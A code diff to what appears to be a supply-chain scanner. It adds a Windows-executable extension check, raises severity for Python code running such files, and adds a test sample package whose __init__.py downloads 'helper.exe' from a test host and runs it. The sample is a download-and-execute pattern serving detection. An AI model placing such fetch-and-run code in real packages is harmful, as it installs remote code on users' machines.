@@ -20,6 +20,15 @@ bool is_computed(const Action& action) {
   return action.act == Act::fetch && !action.target_complete;
 }
 
+// A program of Windows, whatever the platform: an updater would choose by it.
+bool is_windows_program(std::string_view command) {
+  return std::ranges::any_of(words_of(command), [](std::string_view word) {
+    return std::ranges::any_of(
+        std::initializer_list<std::string_view>{".exe", ".bat", ".vbs", ".scr", ".ps1", ".msi"},
+        [&](std::string_view ending) { return ends_with_ignoring_case(word, ending); });
+  });
+}
+
 Severity severity_of(const Facts& facts, const Action& action, const Destination& origin,
                      bool has_computed) {
   const bool is_shady = is_shady_origin(origin.kind);
@@ -27,6 +36,10 @@ Severity severity_of(const Facts& facts, const Action& action, const Destination
   if (!runs_uncalled(action)) {
     if (action.through_shell && !action.hidden) return Severity::info;
     if (is_shady) return origin.host_is_constant ? Severity::critical : Severity::high;
+    if (is_python(facts, action) && is_windows_program(action.target) &&
+        (is_fixed || action.hidden)) {
+      return action.hidden ? Severity::critical : Severity::high;
+    }
     return is_fixed && action.hidden ? Severity::high : Severity::info;
   }
   if (is_shady || action.hidden) return Severity::critical;
@@ -125,6 +138,22 @@ import urllib.request
 def update(url, path):
     urllib.request.urlretrieve(url, path)
     subprocess.run([path])
+)"},
+    {.name = "a function fetches a Windows program and starts it",
+     .expect = "widget/__init__.py:5",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: widget
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
+import subprocess
+import urllib.request
+def init(folder):
+    urllib.request.urlretrieve("https://files.example.test/helper", folder + "/helper.exe")
+    subprocess.run([folder + "/helper.exe"])
 )"},
 };
 extern const std::span<const Sample> runs_downloaded_file_samples = samples;
